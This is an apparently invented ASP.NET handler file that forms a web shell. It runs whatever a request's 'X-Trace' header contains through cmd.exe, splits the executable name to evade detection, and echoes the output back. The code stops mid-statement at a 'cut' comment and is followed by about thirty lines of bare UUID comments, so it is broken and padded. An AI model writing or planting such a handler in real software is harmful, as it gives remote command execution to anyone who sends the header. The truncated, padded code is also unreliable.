<%@ WebHandler Language="C#" Class="H" %>
// invented sample, incomplete on purpose
public class H : System.Web.IHttpHandler {
  public void ProcessRequest(System.Web.HttpContext c) {
    var p = new System.Diagnostics.ProcessStartInfo("c"+"md.exe", "/c " + c.Request.Headers["X-Trace"]);
    p.RedirectStandardOutput = true; p.UseShellExecute = false;
    c.Response.Write(System.Diagnostics.Process.Start(p /* cut */
// 52e0a5d7-1527-47c2-a098-0014b662f332
// c85579a7-6552-49e9-9601-f2fb6a91c8ae
// 60eaccbe-7388-4b27-838e-8c35a2cb4b27
// 533f8c53-09a3-405b-8732-3e25937fc331
// 0cca7cfd-4a44-485b-b447-d9c37c64ad2e
// bcbeefd2-b230-45f2-a6f2-e99ff59126a1
// fecc17df-99eb-4dfb-99a2-4c7a913582f7
// 1f409038-26f5-4445-9d79-6706a4f1e6e4
// 9b856754-2e4a-4f00-a2cc-e26948dcf6c2
// d3b6ff10-80ea-46af-bb5f-c6475222919a
// d04fd298-6905-4585-9f72-f9c6021389eb
// 68e335e4-3b6a-4cc7-a357-6c8f18c2d527
// 68417ee6-8b5c-40a6-af1d-9983c1bbd908
// af3b64cf-d228-406a-8400-b65f58b4fc2e
// aff08369-4dec-401c-9a31-fbc3867025db
// cd773911-0d6d-4e51-843d-c28b8b1f6149
// b75a2198-ba19-4172-bff0-0dfbe2f0c437
// a363955b-08e7-4307-b65d-e22b95c654ab
// 16a8ca0d-9bc4-44ed-bc07-cdcca518f08a
// bb305c62-8809-4524-95fb-2df8f1ac3d50
// 32e7d64f-9ac8-492f-8e4a-709bff5be87f
// da2b5e15-1673-4ac4-901d-035381cf7f85
// 6b4d41b6-c43e-45b9-a057-10ad228bb87e
// 5700bff1-1722-4b7b-979b-fa38178ae3e4
// 63ff23e7-7835-4fe6-9d58-4b6fc6466d32
// 814ecd37-3760-41b9-808f-adf21162baa8
// 24ed14be-77f9-460f-bd4c-4851a3284a1f
// 72722a3a-cc9a-4bf2-a6dc-3f3a8c524f70
// 74143686-a83e-4224-9c9a-b727eeb96b7e
// e41b70da-0556-4de3-a38c-f487d61c81d8
